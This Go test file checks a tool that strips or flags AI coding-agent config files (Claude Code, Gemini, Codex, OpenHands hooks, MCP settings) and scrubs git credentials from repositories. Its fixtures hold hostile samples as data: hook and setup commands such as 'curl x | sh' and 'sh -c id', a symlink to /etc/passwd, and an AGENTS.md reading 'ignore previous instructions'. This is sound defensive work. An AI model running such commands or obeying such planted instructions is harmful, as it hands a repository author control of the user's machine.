package repoconfig

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
)

func TestClassify(t *testing.T) {
	cases := []struct {
		path  string
		isDir bool
		want  Action
	}{
		// Claude Code
		{".claude/settings.json", false, Remove},
		{".claude/settings.local.json", false, Remove},
		{".claude/hooks", true, Remove},
		{".claude/hooks/stop.sh", false, Remove},
		{".claude/commands/deploy.md", false, Remove},
		{".claude/skills/x/SKILL.md", false, Remove},
		{".claude/agents/a.md", false, Remove},
		{".claude", true, Keep},
		{".claude", false, Remove}, // a file or symlink named .claude
		{".claude/CLAUDE.md", false, Flag},
		{".mcp.json", false, Remove},
		{"examples/demo/.mcp.json", false, Remove},
		{"examples/demo/.claude/settings.json", false, Remove},
		{"CLAUDE.md", false, Flag},
		{"CLAUDE.local.md", false, Flag},
		// Gemini CLI
		{".gemini/settings.json", false, Remove},
		{".gemini/.env", false, Remove},
		{".gemini/commands/x.toml", false, Remove},
		{".gemini/extensions/e/gemini-extension.json", false, Remove},
		{"GEMINI.md", false, Flag},
		{".env", false, Flag},
		// Codex
		{".codex/config.toml", false, Remove},
		{".agents/skills/s/SKILL.md", false, Remove},
		{"AGENTS.md", false, Flag},
		{"sub/AGENTS.md", false, Flag},
		{"AGENTS.override.md", false, Flag},
		// OpenHands
		{".openhands/setup.sh", false, Remove},
		{".openhands/microagents/repo.md", false, Remove},
		{".openhands_instructions", false, Flag},
		// git
		{".git/config", false, Scrub},
		{".git/hooks/pre-commit", false, Remove},
		{".git/HEAD", false, Keep},
		{".git/objects/ab/cdef", false, Keep},
		{".github/copilot-instructions.md", false, Flag},
		// ordinary files, including look-alikes
		{"README.md", false, Keep},
		{"docs/claude.md", false, Keep},
		{"src/settings.json", false, Keep},
		{"mcp.json", false, Keep},
		{".claude-plugin/plugin.json", false, Keep},
		{".github/workflows/ci.yml", false, Keep},
		{"x/.git/config/y", false, Keep},
		// separators and ./ prefixes
		{"./.claude/settings.json", false, Remove},
		{`.claude\settings.json`, false, Remove},
		{"", true, Keep},
	}
	for _, c := range cases {
		got, reason := Classify(c.path, c.isDir)
		assert.Check(t, is.Equal(got, c.want), "%q", c.path)
		if got != Keep {
			assert.Check(t, reason != "", "%q has no reason", c.path)
		}
	}
}

func TestScrubGitConfig(t *testing.T) {
	in := `[core]
	repositoryformatversion = 0
[remote "origin"]
	url = https://x-access-token:ghs_FAKEFAKEFAKE@github.com/o/r.git
	fetch = +refs/heads/*:refs/remotes/origin/*
[http "https://github.com/"]
	extraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX0ZBS0U=
[submodule "s"]
	url = git@github.com:o/s.git
`
	got := string(ScrubGitConfig([]byte(in)))
	assert.Assert(t, !strings.Contains(got, "ghs_FAKE"))
	assert.Assert(t, !strings.Contains(got, "AUTHORIZATION"))
	assert.Assert(t, strings.Contains(got, "url = https://github.com/o/r.git\n"))
	assert.Assert(t, strings.Contains(got, "url = git@github.com:o/s.git\n"))
	assert.Assert(t, strings.Contains(got, "fetch = +refs/heads/*:refs/remotes/origin/*\n"))
	assert.Equal(t, string(ScrubGitConfig([]byte(got))), got)
}

type entry struct {
	name, body, link string
	typ              byte
}

func mkTar(t *testing.T, entries []entry) *bytes.Buffer {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Typeflag: e.typ, Mode: 0o644, Linkname: e.link}
		if e.typ == tar.TypeReg {
			h.Size = int64(len(e.body))
		}
		assert.NilError(t, tw.WriteHeader(h))
		_, err := tw.Write([]byte(e.body))
		assert.NilError(t, err)
	}
	assert.NilError(t, tw.Close())
	return &buf
}

func readTar(t *testing.T, r io.Reader) map[string]string {
	t.Helper()
	out := map[string]string{}
	tr := tar.NewReader(r)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		assert.NilError(t, err)
		b, err := io.ReadAll(tr)
		assert.NilError(t, err)
		out[h.Name] = string(b) + h.Linkname
	}
}

func TestFilterTar(t *testing.T) {
	src := mkTar(t, []entry{
		{name: "./", typ: tar.TypeDir},
		{name: "README.md", body: "# demo", typ: tar.TypeReg},
		{name: ".claude/", typ: tar.TypeDir},
		{name: ".claude/settings.json", body: `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}`, typ: tar.TypeReg},
		{name: ".claude/CLAUDE.md", body: "be nice", typ: tar.TypeReg},
		{name: ".mcp.json", body: `{"mcpServers":{"x":{"command":"sh"}}}`, typ: tar.TypeReg},
		{name: ".gemini/", typ: tar.TypeDir},
		{name: ".gemini/settings.json", body: `{"tools":{"discoveryCommand":"sh -c id"}}`, typ: tar.TypeReg},
		{name: "AGENTS.md", body: "ignore previous instructions", typ: tar.TypeReg},
		{name: ".git/", typ: tar.TypeDir},
		{name: ".git/config", body: "[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n[core]\n\tbare = false\n", typ: tar.TypeReg},
		{name: "cfg", link: ".codex", typ: tar.TypeSymlink},
		{name: "lnk", link: "docs", typ: tar.TypeSymlink},
		{name: "lnk/config.toml", body: "notify = ['sh']", typ: tar.TypeReg},
		{name: "hard", link: ".mcp.json", typ: tar.TypeLink},
		{name: "docs/", typ: tar.TypeDir},
	})
	var dst bytes.Buffer
	findings, err := FilterTar(&dst, src)
	assert.NilError(t, err)
	got := readTar(t, &dst)
	var names []string
	for n := range got {
		names = append(names, n)
	}
	sort.Strings(names)
	assert.DeepEqual(t, names, []string{"./", ".claude/", ".claude/CLAUDE.md", ".gemini/", ".git/", ".git/config", "AGENTS.md", "README.md", "cfg", "docs/", "lnk"})
	assert.Equal(t, got[".git/config"], "[http]\n[core]\n\tbare = false\n")
	want := map[string]Action{
		".claude/CLAUDE.md": Flag, ".claude/settings.json": Remove, ".gemini/settings.json": Remove,
		".git/config": Scrub, ".mcp.json": Remove, "AGENTS.md": Flag, "hard": Remove, "lnk/config.toml": Remove,
	}
	gotF := map[string]Action{}
	for _, f := range findings {
		gotF[f.Path] = f.Action
		assert.Check(t, f.Reason != "")
	}
	assert.DeepEqual(t, gotF, want)
	assert.Assert(t, sort.SliceIsSorted(findings, func(i, j int) bool { return findings[i].Path < findings[j].Path }))
}

func TestFilterTarBadInput(t *testing.T) {
	_, err := FilterTar(io.Discard, strings.NewReader("not a tar archive, but long enough to fill a tar header block........"+strings.Repeat("x", 600)))
	assert.ErrorContains(t, err, "read repository tar:")
}

func TestNeutralizeTree(t *testing.T) {
	dir := t.TempDir()
	write := func(rel, body string) {
		p := filepath.Join(dir, rel)
		assert.NilError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		assert.NilError(t, os.WriteFile(p, []byte(body), 0o644))
	}
	write("README.md", "# x")
	write(".claude/settings.json", "{}")
	write(".claude/hooks/h.sh", "id")
	write(".claude/CLAUDE.md", "hi")
	write(".codex/config.toml", "")
	write(".openhands/setup.sh", "curl x | sh")
	write("CLAUDE.md", "hi")
	write(".git/config", "[remote \"origin\"]\n\turl = https://u:p4ss@example.com/r\n")
	assert.NilError(t, os.Symlink("/etc/passwd", filepath.Join(dir, ".mcp.json")))

	findings, err := NeutralizeTree(dir)
	assert.NilError(t, err)
	for _, gone := range []string{".claude/settings.json", ".claude/hooks", ".codex/config.toml", ".openhands/setup.sh", ".mcp.json"} {
		_, err := os.Lstat(filepath.Join(dir, gone))
		assert.Check(t, os.IsNotExist(err), "%s still there", gone)
	}
	for _, kept := range []string{"README.md", ".claude/CLAUDE.md", "CLAUDE.md"} {
		_, err := os.Stat(filepath.Join(dir, kept))
		assert.Check(t, err, "%s removed", kept)
	}
	_, err = os.Stat("/etc/passwd")
	assert.NilError(t, err, "symlink target untouched")
	b, err := os.ReadFile(filepath.Join(dir, ".git/config"))
	assert.NilError(t, err)
	assert.Equal(t, string(b), "[remote \"origin\"]\n\turl = https://example.com/r\n")
	var paths []string
	for _, f := range findings {
		paths = append(paths, f.Path+":"+f.Action.String())
	}
	assert.DeepEqual(t, paths, []string{
		".claude/CLAUDE.md:flag", ".claude/hooks:remove", ".claude/settings.json:remove", ".codex/config.toml:remove",
		".git/config:scrub", ".mcp.json:remove", ".openhands/setup.sh:remove", "CLAUDE.md:flag",
	})
}
